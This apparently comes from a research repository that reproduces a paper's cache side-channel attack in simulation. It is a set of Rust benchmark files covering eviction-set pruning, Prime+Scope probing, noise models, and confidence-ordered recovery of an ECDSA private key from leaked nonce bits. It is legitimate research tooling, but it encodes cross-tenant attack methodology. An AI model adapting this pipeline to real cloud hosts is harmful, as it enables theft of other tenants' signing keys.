//! Criterion bench of Step 4's confidence-ordered correction search.
//!
//! Two costs matter: the enumeration machinery itself (flip-set frontier,
//! candidate assembly — measured with a no-op verifier) and the end-to-end
//! search against real public-key verification, whose per-candidate cost is
//! one curve ladder over the candidate nonce. The planted patterns pin the
//! solution at a known search depth so the numbers are comparable across
//! runs.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use llc_ecdsa_victim::{hash_to_scalar, Ecdsa, KeyPair, Scalar};
use llc_recovery::{correct_and_recover, BitEstimate, KeyVerifier, SearchConfig};
use rand::rngs::SmallRng;
use rand::SeedableRng;

const NONCE_BITS: usize = 48;

fn planted_estimates(
    bits: &[bool],
    erasures: usize,
    errors: usize,
) -> Vec<BitEstimate> {
    bits.iter()
        .enumerate()
        .map(|(i, &b)| {
            if i % 7 == 3 && i / 7 < erasures {
                BitEstimate::Erased
            } else if i % 11 == 5 && i / 11 < errors {
                BitEstimate::Known { bit: !b, confidence: 0.05 }
            } else {
                BitEstimate::Known { bit: b, confidence: 0.9 }
            }
        })
        .collect()
}

fn bench_key_search(c: &mut Criterion) {
    let ecdsa = Ecdsa::new();
    let mut rng = SmallRng::seed_from_u64(0xbe_c4);
    let key = KeyPair::from_private(ecdsa.curve(), Scalar::random(&mut rng));
    let z = hash_to_scalar(b"key_search bench");
    let transcript = loop {
        let nonce = Scalar::random_with_bit_length(&mut rng, NONCE_BITS);
        if let Some(t) = ecdsa.sign_with_nonce(&key, &z, nonce) {
            break t;
        }
    };

    let mut group = c.benchmark_group("key_search");
    group.sample_size(10);

    // Enumeration-only: a verifier that always rejects, fixed breadth. This
    // is the frontier/candidate-assembly overhead per examined candidate.
    let estimates = planted_estimates(&transcript.ladder_bits, 4, 2);
    group.bench_function("enumerate_4096_candidates", |b| {
        let config = SearchConfig { max_candidates: 4096, max_flips: 3 };
        b.iter(|| {
            let out = correct_and_recover(&estimates, &config, |_| None);
            assert_eq!(out.candidates_examined, 4096);
            out.candidates_examined
        });
    });

    // Full recovery with public-key verification at increasing damage.
    for (erasures, errors) in [(2usize, 0usize), (4, 1), (6, 2)] {
        let estimates = planted_estimates(&transcript.ladder_bits, erasures, errors);
        let label = format!("e{erasures}_f{errors}");
        group.bench_with_input(
            BenchmarkId::new("recover", label),
            &estimates,
            |b, estimates| {
                let verifier = KeyVerifier::new(*key.public(), transcript.signature, z);
                let config = SearchConfig { max_candidates: 1 << 14, max_flips: 3 };
                b.iter(|| {
                    let out =
                        correct_and_recover(estimates, &config, |k| verifier.try_nonce(k));
                    assert_eq!(out.key.as_ref(), Some(key.private()));
                    out.candidates_tested
                });
            },
        );
    }
    group.finish();
}

criterion_group!(benches, bench_key_search);
criterion_main!(benches);
