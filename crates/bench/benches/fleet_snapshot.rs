//! Criterion bench behind the `llc-fleet` trial-execution substrate: the
//! per-trial machine-acquisition cost that `Machine::snapshot()` /
//! `reset_to()` replaces, and the fleet dispatch overhead itself.
//!
//! `build` is what every trial paid before this bench existed (full machine
//! construction: geometry, paging, noise bookkeeping, replacement metadata);
//! `reset` is what a trial pays now (rewinding a worker's machine to the
//! warmed snapshot); `fleet_dispatch` is the whole executor round trip for a
//! no-op trial.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use llc_cache_model::CacheSpec;
use llc_fleet::Fleet;
use llc_machine::{Machine, NoiseModel};

fn bench_snapshot_reset(c: &mut Criterion) {
    let mut group = c.benchmark_group("fleet_snapshot");
    group.sample_size(10);
    for slices in [2usize, 8] {
        let spec = CacheSpec::skylake_sp(slices, 4);
        group.bench_with_input(BenchmarkId::new("build", slices), &spec, |b, spec| {
            b.iter(|| {
                Machine::builder(spec.clone()).noise(NoiseModel::cloud_run()).seed(1).build()
            });
        });
        let base =
            Machine::builder(spec.clone()).noise(NoiseModel::cloud_run()).seed(1).build();
        let snapshot = base.snapshot();
        let mut machine = snapshot.to_machine();
        group.bench_with_input(BenchmarkId::new("reset", slices), &spec, |b, _| {
            b.iter(|| {
                machine.reset_to(&snapshot);
                machine.reseed(7);
                machine.now()
            });
        });
    }
    group.bench_function("fleet_dispatch_1k_noop_trials", |b| {
        let fleet = Fleet::new(2).with_chunk(16);
        b.iter(|| fleet.run(1000, 3, |ctx| ctx.seed).len());
    });
    group.finish();
}

criterion_group!(benches, bench_snapshot_reset);
criterion_main!(benches);
