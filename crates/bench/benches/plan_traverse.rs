//! Criterion bench behind the compiled-plan rewrite: the same 1,000-probe
//! monitoring burst over one SF eviction set, traversed through the ad-hoc
//! VA path (per-call translation + slice hash + sort/dedup) and through a
//! plan compiled once. Both run under quiescent and Cloud Run noise — the
//! noise-heavy case is where the paper's experiments spend their time, and
//! where the allocation-free catch-up shows up on top of the plan win.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use llc_bench::experiments::Environment;
use llc_evsets::{oracle, CandidateSet};
use llc_machine::Machine;
use llc_cache_model::{CacheSpec, VirtAddr};
use rand::rngs::SmallRng;
use rand::SeedableRng;

const PROBES_PER_ITER: usize = 1_000;

/// Builds a machine plus a true SF eviction set (oracle-built: the bench
/// measures traversal cost, not Step 1).
fn fixture(environment: Environment) -> (Machine, Vec<VirtAddr>) {
    let spec = CacheSpec::skylake_sp(2, 4);
    let mut machine =
        Machine::builder(spec.clone()).noise(environment.noise()).seed(0x97a4).build();
    let mut rng = SmallRng::seed_from_u64(0x97a4);
    let candidates = CandidateSet::allocate(&mut machine, 0x240, 4096, &mut rng);
    let anchor = candidates.addresses()[0];
    let congruent = oracle::congruent_with(&machine, anchor, &candidates.addresses()[1..]);
    let ways = spec.sf.ways();
    assert!(congruent.len() >= ways, "candidate pool must cover the set");
    (machine, congruent[..ways].to_vec())
}

fn bench_plan_traverse(c: &mut Criterion) {
    let mut group = c.benchmark_group("plan_traverse");
    group.sample_size(20);
    for env in Environment::all() {
        group.bench_with_input(
            BenchmarkId::new("adhoc_probe_x1000", env.label()),
            &env,
            |b, &env| {
                let (mut machine, addrs) = fixture(env);
                b.iter(|| {
                    let mut total = 0u64;
                    for _ in 0..PROBES_PER_ITER {
                        total += machine.timed_parallel_traverse(&addrs);
                    }
                    total
                });
            },
        );
        group.bench_with_input(
            BenchmarkId::new("plan_probe_x1000", env.label()),
            &env,
            |b, &env| {
                let (mut machine, addrs) = fixture(env);
                let plan = machine.compile_plan(&addrs);
                b.iter(|| {
                    let mut total = 0u64;
                    for _ in 0..PROBES_PER_ITER {
                        total += machine.timed_parallel_traverse_plan(&plan);
                    }
                    total
                });
            },
        );
        // Compile cost: how many probes does one compilation amortise over?
        group.bench_with_input(
            BenchmarkId::new("compile_plan", env.label()),
            &env,
            |b, &env| {
                let (machine, addrs) = fixture(env);
                let mut plan = machine.compile_plan(&addrs);
                b.iter(|| machine.compile_plan_into(&addrs, &mut plan));
            },
        );
    }
    group.finish();
}

criterion_group!(benches, bench_plan_traverse);
criterion_main!(benches);
