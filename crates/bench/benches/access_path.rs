//! Criterion bench for the raw `Hierarchy::access` throughput — the
//! innermost loop of every experiment in the repository (eviction-set
//! construction, Prime+Scope monitoring and the end-to-end recovery all
//! bottom out in this function).
//!
//! Three steady-state mixes are measured, each as one batch of
//! `BATCH` accesses per iteration (report ms/iter; accesses/sec =
//! `BATCH / time`):
//!
//! * `l1_hit` — a small resident working set, every access served by the L1
//!   (the scope-check fast path);
//! * `llc_hit` — a Shared working set far larger than the L2, so accesses
//!   miss the private levels and hit the LLC, exercising the
//!   lookup + invalidate + SF-allocate transition;
//! * `full_miss` — fresh lines every access: the complete miss path with
//!   private fills, SF allocation and displacement handling.

use criterion::{black_box, criterion_group, criterion_main, Criterion};
use llc_cache_model::{AccessKind, CacheSpec, Hierarchy, LineAddr};

/// Accesses per timed iteration.
const BATCH: u64 = 10_000;

fn spec() -> CacheSpec {
    CacheSpec::skylake_sp(8, 4)
}

fn bench_access_path(c: &mut Criterion) {
    let mut group = c.benchmark_group("access_path");
    group.sample_size(20);

    // L1 hits: 8 lines in distinct sets, touched round-robin from one core.
    group.bench_function(format!("l1_hit_{BATCH}"), |b| {
        let mut h = Hierarchy::new(spec(), 1);
        let lines: Vec<LineAddr> = (0..8).map(LineAddr::from_line_number).collect();
        for &l in &lines {
            h.access(0, l, AccessKind::Read);
        }
        b.iter(|| {
            let mut served = 0u64;
            for i in 0..BATCH {
                let line = lines[(i % lines.len() as u64) as usize];
                served += h.access(0, line, AccessKind::Read).level as u64;
            }
            black_box(served)
        });
    });

    // LLC hits: a Shared working set larger than the L2 (16k lines), cycled
    // with a stride that defeats the private caches but stays LLC-resident.
    group.bench_function(format!("llc_hit_{BATCH}"), |b| {
        let mut h = Hierarchy::new(spec(), 2);
        let working_set: Vec<LineAddr> =
            (0..(1u64 << 16)).map(LineAddr::from_line_number).collect();
        // Make every line Shared (two cores touch it), pushing it to the LLC.
        for &l in &working_set {
            h.access(0, l, AccessKind::Read);
            h.access(1, l, AccessKind::Read);
        }
        let mut cursor = 0usize;
        b.iter(|| {
            let mut served = 0u64;
            for _ in 0..BATCH {
                served += h.access(2, working_set[cursor], AccessKind::Read).level as u64;
                cursor = (cursor + 97) % working_set.len();
            }
            black_box(served)
        });
    });

    // Full misses: every access is a line the hierarchy has never seen, so
    // each one walks L1/L2/LLC/SF and allocates an SF entry.
    group.bench_function(format!("full_miss_{BATCH}"), |b| {
        let mut h = Hierarchy::new(spec(), 3);
        let mut next = 1u64 << 30;
        b.iter(|| {
            let mut displaced = 0u64;
            for _ in 0..BATCH {
                next += 1;
                let out = h.access(0, LineAddr::from_line_number(next), AccessKind::Read);
                displaced += out.displaced_sf_entry as u64;
            }
            black_box(displaced)
        });
    });

    group.finish();
}

criterion_group!(benches, bench_access_path);
criterion_main!(benches);
