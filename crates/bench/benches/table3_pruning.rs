//! Criterion bench behind Table 3: single eviction-set construction with the
//! state-of-the-art pruning algorithms (no candidate filtering), quiescent
//! local vs Cloud Run noise.
//!
//! Each (algorithm, environment) cell is benchmarked at both noise
//! fidelities: the exact per-event reference keeps its historical benchmark
//! IDs (`<algo>/<env>`), the aggregate bulk-transition mode is the
//! `<algo>/<env> (aggregate)` variant — the headline speed-up of the
//! aggregate mode is the ratio of the two Cloud Run medians.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use llc_bench::experiments::{measure_single_set, Environment};
use llc_fleet::Fleet;
use llc_core::Algorithm;
use llc_cache_model::{CacheSpec, HierarchyOptions};
use llc_machine::NoiseFidelity;

fn bench_pruning(c: &mut Criterion) {
    let spec = CacheSpec::skylake_sp(2, 4);
    let mut group = c.benchmark_group("table3_pruning");
    group.sample_size(10);
    for fidelity in [NoiseFidelity::Exact, NoiseFidelity::Aggregate] {
        for env in Environment::all() {
            for algo in [Algorithm::Gt, Algorithm::GtOp, Algorithm::PsOp] {
                let cell = match fidelity {
                    NoiseFidelity::Exact => env.label().to_string(),
                    NoiseFidelity::Aggregate => format!("{} (aggregate)", env.label()),
                };
                group.bench_with_input(
                    BenchmarkId::new(algo.name(), cell),
                    &(env, algo),
                    |b, &(env, algo)| {
                        let mut seed = 0u64;
                        b.iter(|| {
                            seed += 1;
                            measure_single_set(
                                &spec,
                                env,
                                fidelity,
                                HierarchyOptions::default(),
                                algo,
                                false,
                                1,
                                seed,
                                &Fleet::single(),
                            )
                        });
                    },
                );
            }
        }
    }
    group.finish();
}

criterion_group!(benches, bench_pruning);
criterion_main!(benches);
