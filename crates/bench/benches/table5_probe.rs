//! Criterion bench behind Table 5: prime and probe cost of each monitoring
//! strategy (simulated-cycle cost measured inside; host time benchmarked).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use llc_bench::experiments::{measure_monitoring, Environment};
use llc_probe::Strategy;
use llc_cache_model::CacheSpec;

fn bench_monitoring(c: &mut Criterion) {
    let spec = CacheSpec::skylake_sp(2, 4);
    let mut group = c.benchmark_group("table5_monitoring");
    group.sample_size(10);
    for strategy in Strategy::all() {
        group.bench_with_input(
            BenchmarkId::new("covert_channel", strategy.to_string()),
            &strategy,
            |b, &strategy| {
                let mut seed = 0u64;
                b.iter(|| {
                    seed += 1;
                    measure_monitoring(&spec, Environment::CloudRun, strategy, 10_000, 100, seed)
                });
            },
        );
    }
    group.finish();
}

criterion_group!(benches, bench_monitoring);
criterion_main!(benches);
