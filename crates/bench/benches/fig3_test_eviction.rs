//! Criterion bench behind Figure 3: parallel vs sequential `TestEviction`
//! over a growing candidate count.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use llc_evsets::{test_eviction, CandidateSet, TargetCache, TraversalOrder};
use llc_machine::{Machine, NoiseModel};
use llc_cache_model::CacheSpec;
use rand::rngs::SmallRng;
use rand::SeedableRng;

fn bench_test_eviction(c: &mut Criterion) {
    let spec = CacheSpec::skylake_sp(2, 4);
    let mut group = c.benchmark_group("fig3_test_eviction");
    group.sample_size(10);
    for &count in &[256usize, 1024, 2048] {
        for (label, order) in
            [("parallel", TraversalOrder::Parallel), ("sequential", TraversalOrder::Sequential)]
        {
            group.bench_with_input(
                BenchmarkId::new(label, count),
                &(count, order),
                |b, &(count, order)| {
                    let mut machine = Machine::builder(spec.clone())
                        .noise(NoiseModel::cloud_run())
                        .seed(7)
                        .build();
                    let mut rng = SmallRng::seed_from_u64(7);
                    let pool = CandidateSet::allocate(&mut machine, 0x240, count + 1, &mut rng);
                    let ta = pool.addresses()[0];
                    let cands: Vec<_> = pool.addresses()[1..].to_vec();
                    b.iter(|| test_eviction(&mut machine, ta, &cands, TargetCache::Llc, order));
                },
            );
        }
    }
    group.finish();
}

criterion_group!(benches, bench_test_eviction);
criterion_main!(benches);
