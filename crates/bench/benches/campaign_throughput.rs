//! Criterion bench behind the campaign layer's headline claim: streaming a
//! multi-cell sweep through one machine pool sustains ≥1.5× the trial
//! throughput of the naive per-cell loop.
//!
//! Both arms run the identical trial body (snapshot rewind + reseed + a
//! short probe burst) over the same 12-cell × 4-trial grid on the 2-slice
//! Skylake-SP host. The naive arm is what every experiment binary did
//! before the pool existed: build one machine per cell, then rewind it per
//! trial — paying the ~2.3–2.7× build-vs-reset premium (see
//! `fleet_snapshot`) once per cell. The campaign arm streams the same
//! trials through `llc-campaign` with a pooled source, so the whole grid
//! shares one built machine — and it *additionally* pays for checkpointing
//! (chunk records, JSONL appends, fsyncless flushes) and still comes out
//! ahead. `<ratio of the two medians>` is the pinned speed-up.

use criterion::{criterion_group, criterion_main, Criterion};
use llc_bench::experiments::trial_streams;
use llc_campaign::{
    Campaign, CampaignSpec, CellSpec, Fleet, RunOptions, TrialCtx, TrialOutcome, TrialSource,
};
use llc_cache_model::{CacheSpec, VirtAddr};
use llc_fleet::stream_seed;
use llc_machine::{Machine, MachinePool, NoiseModel, PooledMachine};
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

const CELLS: usize = 12;
const TRIALS_PER_CELL: u64 = 4;
const MASTER_SEED: u64 = 0xbe9c_0008;

fn host() -> CacheSpec {
    CacheSpec::skylake_sp(2, 4)
}

fn build_machine(spec: &CacheSpec, build_seed: u64) -> Machine {
    Machine::builder(spec.clone())
        .noise(NoiseModel::quiescent_local())
        .seed(build_seed)
        .build()
}

/// The shared trial body: rewound machine, per-trial streams, short probe
/// burst. Identical in both arms so only machine acquisition differs.
fn probe_burst(machine: &mut Machine, ctx: &TrialCtx) -> TrialOutcome {
    machine.reseed(ctx.stream(trial_streams::NOISE));
    let base = machine.alloc_attacker_pages(1);
    let sum: u64 =
        (0..16).map(|i| machine.timed_access(VirtAddr::new(base.raw() + i * 64)).0).sum();
    TrialOutcome { success: true, metrics: vec![sum] }
}

/// Campaign arm: every cell shares one machine configuration, so the pool
/// builds exactly once per worker.
struct PooledBurst {
    spec: CacheSpec,
    build_seed: u64,
    pool: Arc<MachinePool>,
    key: u64,
}

impl TrialSource for PooledBurst {
    type Worker = Option<PooledMachine>;
    type Item = TrialOutcome;

    fn init(&self, _worker: usize) -> Option<PooledMachine> {
        None
    }

    fn run_trial(&self, held: &mut Option<PooledMachine>, _cell: usize, ctx: TrialCtx) -> TrialOutcome {
        if held.is_none() {
            *held = Some(self.pool.acquire(self.key, || build_machine(&self.spec, self.build_seed)));
        }
        let machine = held.as_mut().expect("machine just acquired");
        machine.reset();
        probe_burst(machine, &ctx)
    }
}

fn campaign_spec() -> CampaignSpec {
    CampaignSpec {
        name: "campaign-throughput".into(),
        master_seed: MASTER_SEED,
        chunk_trials: 8,
        metrics: vec!["latency_sum".into()],
        cells: (0..CELLS)
            .map(|i| CellSpec { id: format!("cell{i}"), trials: TRIALS_PER_CELL })
            .collect(),
    }
}

fn fresh_dir() -> PathBuf {
    static COUNTER: AtomicUsize = AtomicUsize::new(0);
    std::env::temp_dir().join(format!(
        "llc-campaign-bench-{}-{}",
        std::process::id(),
        COUNTER.fetch_add(1, Ordering::Relaxed)
    ))
}

fn bench_throughput(c: &mut Criterion) {
    let spec = host();
    let build_seed = stream_seed(MASTER_SEED, trial_streams::MACHINE);
    let mut group = c.benchmark_group("campaign_throughput");
    group.sample_size(10);

    // Naive per-cell loop: one fresh build + snapshot per cell, rewind per
    // trial — the pre-campaign experiment-loop shape.
    group.bench_function("naive_per_cell_48_trials", |b| {
        b.iter(|| {
            let camp = campaign_spec();
            let mut total = 0u64;
            for (cell, spec_cell) in camp.cells.iter().enumerate() {
                let snapshot = build_machine(&spec, build_seed).snapshot();
                let mut machine = snapshot.to_machine();
                for t in 0..spec_cell.trials {
                    machine.reset_to(&snapshot);
                    let ctx = TrialCtx::derive(
                        camp.cell_master(cell),
                        t as usize,
                        spec_cell.trials as usize,
                    );
                    total += probe_burst(&mut machine, &ctx).metrics[0];
                }
            }
            total
        });
    });

    // Campaign arm: same grid, same trial body, streamed through the
    // checkpointing engine with one pooled machine — checkpoint I/O and all.
    group.bench_function("campaign_pooled_48_trials", |b| {
        b.iter(|| {
            let source = PooledBurst {
                spec: spec.clone(),
                build_seed,
                pool: MachinePool::new(),
                key: 1,
            };
            let dir = fresh_dir();
            let report = Campaign::new(campaign_spec(), &dir)
                .run(&Fleet::single(), &source, &RunOptions::default())
                .expect("bench campaign runs");
            let _ = std::fs::remove_dir_all(&dir);
            assert!(report.complete);
            report.aggregates.iter().map(|a| a.metrics[0].sum).sum::<u128>()
        });
    });
    group.finish();
}

criterion_group!(benches, bench_throughput);
criterion_main!(benches);
