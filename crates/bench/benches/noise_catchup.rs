//! Criterion bench isolating the noise catch-up path the two fidelities
//! implement differently: a monitoring probe revisiting one eviction set
//! after an idle window.
//!
//! This is the access pattern Steps 2–4 spend their time in (prime, wait
//! for the victim, probe), and it is where the fidelities diverge: after a
//! long idle window the exact path materialises every background insertion
//! as a timestamped event, insertion-sorts the burst and replays it through
//! the hierarchy one access at a time, while the aggregate path draws two
//! insertion counts and applies one bulk evict-and-fill transition. The
//! short-window cells pin the other end: for in-traversal gaps the
//! aggregate path must not be *slower* than exact (its common case is a
//! single uniform draw, like exact's own count draw).
//!
//! `table3_pruning` deliberately complements this bench: pruning syncs each
//! set after tiny gaps, so its exact-vs-aggregate cells measure the
//! no-regression end, not the speed-up end.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use llc_bench::experiments::Environment;
use llc_cache_model::{CacheSpec, VirtAddr};
use llc_evsets::{oracle, CandidateSet};
use llc_machine::{Machine, NoiseConfig, NoiseFidelity};
use rand::rngs::SmallRng;
use rand::SeedableRng;

const PROBES_PER_ITER: usize = 200;

/// Idle window between probes, in cycles: 10 ms at the model's 2 GHz — a
/// victim-paced monitoring cadence. At the Cloud Run rate this is ~115
/// expected background insertions per probe (far beyond the set's
/// associativity), the regime the aggregate mode exists for.
const LONG_IDLE: u64 = 20_000_000;

/// 50 µs at 2 GHz: ~0.6 expected insertions per probe under Cloud Run —
/// the sparse end of in-traversal windows, where both fidelities should
/// cost about the same.
const SHORT_IDLE: u64 = 100_000;

/// Builds a machine at the requested fidelity plus one oracle-built SF
/// eviction set (the bench measures probing, not Step 1).
fn fixture(environment: Environment, fidelity: NoiseFidelity) -> (Machine, Vec<VirtAddr>) {
    let spec = CacheSpec::skylake_sp(2, 4);
    let mut machine = Machine::builder(spec.clone())
        .noise_config(NoiseConfig::exact(environment.noise()).with_fidelity(fidelity))
        .seed(0x97a4)
        .build();
    let mut rng = SmallRng::seed_from_u64(0x97a4);
    let candidates = CandidateSet::allocate(&mut machine, 0x240, 4096, &mut rng);
    let anchor = candidates.addresses()[0];
    let congruent = oracle::congruent_with(&machine, anchor, &candidates.addresses()[1..]);
    let ways = spec.sf.ways();
    assert!(congruent.len() >= ways, "candidate pool must cover the set");
    (machine, congruent[..ways].to_vec())
}

fn bench_noise_catchup(c: &mut Criterion) {
    let mut group = c.benchmark_group("noise_catchup");
    group.sample_size(20);
    for env in Environment::all() {
        for fidelity in [NoiseFidelity::Exact, NoiseFidelity::Aggregate] {
            for (idle_label, idle) in [("10ms_idle", LONG_IDLE), ("50us_idle", SHORT_IDLE)] {
                group.bench_with_input(
                    BenchmarkId::new(
                        format!("probe_{}_{}", idle_label, fidelity.label()),
                        env.label(),
                    ),
                    &env,
                    |b, &env| {
                        let (mut machine, addrs) = fixture(env, fidelity);
                        let plan = machine.compile_plan(&addrs);
                        b.iter(|| {
                            let mut total = 0u64;
                            for _ in 0..PROBES_PER_ITER {
                                machine.idle(idle);
                                total += machine.timed_parallel_traverse_plan(&plan);
                            }
                            total
                        });
                    },
                );
            }
        }
    }
    group.finish();
}

criterion_group!(benches, bench_noise_catchup);
criterion_main!(benches);
