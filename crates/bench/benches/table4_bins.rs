//! Criterion bench behind Table 4: single eviction-set construction *with*
//! L2-driven candidate filtering, comparing GtOp against the paper's BinS.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use llc_bench::experiments::{measure_single_set, Environment};
use llc_fleet::Fleet;
use llc_core::Algorithm;
use llc_cache_model::{CacheSpec, HierarchyOptions};
use llc_machine::NoiseFidelity;

fn bench_filtered_construction(c: &mut Criterion) {
    let spec = CacheSpec::skylake_sp(2, 4);
    let mut group = c.benchmark_group("table4_filtered");
    group.sample_size(10);
    for env in Environment::all() {
        for algo in [Algorithm::Gt, Algorithm::GtOp, Algorithm::PsOp, Algorithm::BinS] {
            group.bench_with_input(
                BenchmarkId::new(algo.name(), env.label()),
                &(env, algo),
                |b, &(env, algo)| {
                    let mut seed = 100u64;
                    b.iter(|| {
                        seed += 1;
                        measure_single_set(
                            &spec,
                            env,
                            NoiseFidelity::Exact,
                            HierarchyOptions::default(),
                            algo,
                            true,
                            1,
                            seed,
                            &Fleet::single(),
                        )
                    });
                },
            );
        }
    }
    group.finish();
}

criterion_group!(benches, bench_filtered_construction);
criterion_main!(benches);
