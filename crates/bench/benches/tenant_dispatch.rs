//! Criterion bench isolating the tenant-actor event dispatch path: an
//! attacker idling through a monitoring window while scheduled background
//! tenants post their bursts.
//!
//! Three host populations bracket the cost: `none` pins the empty-population
//! fast path (the event queue is empty, so `idle` must cost what it cost
//! before the tenant layer existed), `3static` measures steady-state event
//! dispatch for two idle sidecars plus a bursty web neighbour, and `3churn`
//! adds exponential-dwell migration (depart/arrive events and working-set
//! redraws) on top. The statistical noise model is silent throughout so the
//! numbers isolate the scheduled-tenant machinery from Poisson catch-up
//! (which `noise_catchup` already covers).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use llc_cache_model::CacheSpec;
use llc_machine::{ChurnConfig, Machine, NoiseModel, TenantPopulation};

const PROBES_PER_ITER: usize = 50;

/// 2 ms at the model's 2 GHz per idle window: long enough that every
/// scheduled tenant fires (bursty-web means one request per 0.2 ms-equiv),
/// the regime campaign cells spend their wait phases in.
const IDLE_WINDOW: u64 = 4_000_000;

/// Mean neighbour dwell for the churned population: 20 ms at 2 GHz, so a
/// typical bench iteration sees a handful of migrations.
const CHURN_DWELL_CYCLES: f64 = 40_000_000.0;

fn population(label: &str) -> TenantPopulation {
    match label {
        "none" => TenantPopulation::empty(),
        "3static" => TenantPopulation::parse("2*idle,1*bursty-web").expect("spec parses"),
        "3churn" => TenantPopulation::parse("2*idle,1*bursty-web")
            .expect("spec parses")
            .with_churn(ChurnConfig { mean_dwell_cycles: CHURN_DWELL_CYCLES }),
        other => panic!("unknown population label {other:?}"),
    }
}

fn bench_tenant_dispatch(c: &mut Criterion) {
    let mut group = c.benchmark_group("tenant_dispatch");
    group.sample_size(20);
    for label in ["none", "3static", "3churn"] {
        group.bench_with_input(BenchmarkId::new("idle_probe", label), &label, |b, &label| {
            let mut machine = Machine::builder(CacheSpec::skylake_sp(2, 4))
                .noise(NoiseModel::silent())
                .tenants(population(label))
                .seed(0x7e4a)
                .build();
            let va = machine.alloc_attacker_pages(1);
            machine.access(va);
            b.iter(|| {
                let mut total = 0u64;
                for _ in 0..PROBES_PER_ITER {
                    machine.idle(IDLE_WINDOW);
                    total += machine.timed_access(va).0;
                }
                total
            });
        });
    }
    group.finish();
}

criterion_group!(benches, bench_tenant_dispatch);
criterion_main!(benches);
