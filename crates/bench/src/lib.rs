//! # llc-bench
//!
//! Experiment harnesses that regenerate every table and figure of the
//! paper's evaluation on the simulated Skylake-SP / Ice Lake-SP hosts.
//! Each experiment is available both as a library function (used by the
//! Criterion benches under `benches/`) and as a runnable binary under
//! `src/bin/` that prints the corresponding table rows.
//!
//! | Target | Reproduces |
//! |---|---|
//! | `table3` | Table 3 — existing pruning algorithms, local vs Cloud Run |
//! | `table4` | Table 4 — candidate filtering + BinS, SingleSet/PageOffset/WholeSys |
//! | `table5` | Table 5 — prime/probe latencies of PS-Flush, PS-Alt, Parallel |
//! | `table6` | Table 6 — PSD-based target-set identification |
//! | `fig2`   | Figure 2 — CDF of background LLC accesses |
//! | `fig3`   | Figure 3 — parallel vs sequential TestEviction duration |
//! | `fig6`   | Figure 6 — detection rate vs access interval |
//! | `fig7`   | Figure 7 — PSD of target vs non-target set |
//! | `fig9`   | Figure 9 — decoded access trace vs ground-truth nonce bits |
//! | `icelake` | Section 5.3.2 — Skylake-SP vs Ice Lake-SP associativity |
//! | `end_to_end` | Section 7.3 — median nonce bits recovered, error rate, time |
//! | `e2e_key` | Section 7.3 / Step 4 — multi-signature campaign recovering the ECDSA private key |
//!
//! ## Scaling knobs
//!
//! The paper's measurement campaign covers tens of thousands of trials on
//! 28-slice machines; by default the harnesses run scaled-down versions that
//! finish in seconds to minutes. Environment variables and flags control
//! scale:
//!
//! * `LLC_TRIALS` — trials per configuration (default: experiment-specific);
//! * `LLC_SLICES` — number of LLC/SF slices of the simulated Skylake-SP
//!   (default 8 for bulk experiments; set 28 for the paper's geometry);
//! * `--threads N` / `LLC_THREADS` — worker threads of the `llc-fleet` trial
//!   executor (default: available parallelism). Results are bit-identical
//!   for every thread count;
//! * `--smoke` — a pinned, environment-independent configuration with small
//!   trial counts and stable output, used by the golden regression tests and
//!   the CI smoke job;
//! * `--noise-fidelity exact|aggregate` / `LLC_NOISE_FIDELITY` — noise-model
//!   fidelity of the single-set and key-recovery harnesses (default `exact`,
//!   the per-event reference; `aggregate` collapses each catch-up window
//!   into one bulk state transition — statistically equivalent, much faster
//!   under Cloud Run noise);
//! * `--inclusion non-inclusive|inclusive|exclusive` / `LLC_INCLUSION`,
//!   `--slice-hash xor-fold|modulo` / `LLC_SLICE_HASH`,
//!   `--replacement lru|tree-plru|qlru|srrip|random` / `LLC_REPLACEMENT` —
//!   the hierarchy-composition scenario (inclusion policy, slice hash,
//!   every-level replacement override). Non-default choices are appended to
//!   the machine name in report headers;
//! * `LLC_REUSE_P` — reuse-predictor insertion probability (0.0–1.0).
//!   Non-zero values force per-event noise dispatch; aggregate-mode report
//!   headers then show the *effective* fidelity;
//! * `--tenants SPEC` / `LLC_TENANTS` — background tenant population
//!   co-resident with the attacker/victim pair, e.g. `2*idle,1*bursty-web`
//!   (kinds: `idle`, `bursty-web`, `batch-scan`; empty default is the
//!   legacy single-attacker/single-victim host). Honoured by the
//!   key-recovery path (`e2e_key`) and by campaign cells that carry a
//!   population (the `coresidency-grid` preset); the table/figure
//!   harnesses measure eviction-set construction against the statistical
//!   noise floor and do not place structured tenants;
//! * `--churn MS` / `LLC_CHURN_MS` — mean tenant dwell time in milliseconds
//!   before a neighbour departs and is replaced by a fresh one (0 disables
//!   churn; ignored without `--tenants`);
//! * `--retries N` / `LLC_RETRIES` — campaign per-trial retry budget: a
//!   panicking trial re-runs with its *same* derived seed up to N times
//!   before it quarantines (default 2, i.e. three attempts; 0 quarantines
//!   on the first panic). Honoured by the `campaign` binary.
//!
//! A set-but-unparseable `LLC_TENANTS` or `LLC_CHURN_MS` is an error (the
//! same vocabulary as the corresponding flag), never a silent fallback to
//! the tenant-free legacy host.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod experiments;
pub mod reports;
pub mod sweeps;

use llc_cache_model::{
    CacheSpec, HierarchyOptions, InclusionPolicy, ReplacementKind, SliceHashSelect,
};
use llc_fleet::{Fleet, Summary};
use llc_machine::{ChurnConfig, Machine, NoiseFidelity, TenantPopulation};

/// Reads a positive integer from the environment, with a default.
pub fn env_usize(name: &str, default: usize) -> usize {
    std::env::var(name).ok().and_then(|v| v.parse().ok()).filter(|&v| v > 0).unwrap_or(default)
}

/// Number of trials per experiment configuration (`LLC_TRIALS`).
pub fn trials(default: usize) -> usize {
    env_usize("LLC_TRIALS", default)
}

/// The simulated Skylake-SP used by the heavier experiments: the real 28
/// slices are expensive to simulate, so bulk experiments default to a scaled
/// host (`LLC_SLICES`, default 8) with identical per-slice geometry. The
/// cache-uncertainty structure (and therefore the algorithms' behaviour) is
/// unchanged; only the number of sets to cover shrinks.
pub fn scaled_skylake() -> CacheSpec {
    CacheSpec::skylake_sp(env_usize("LLC_SLICES", 8), 4)
}

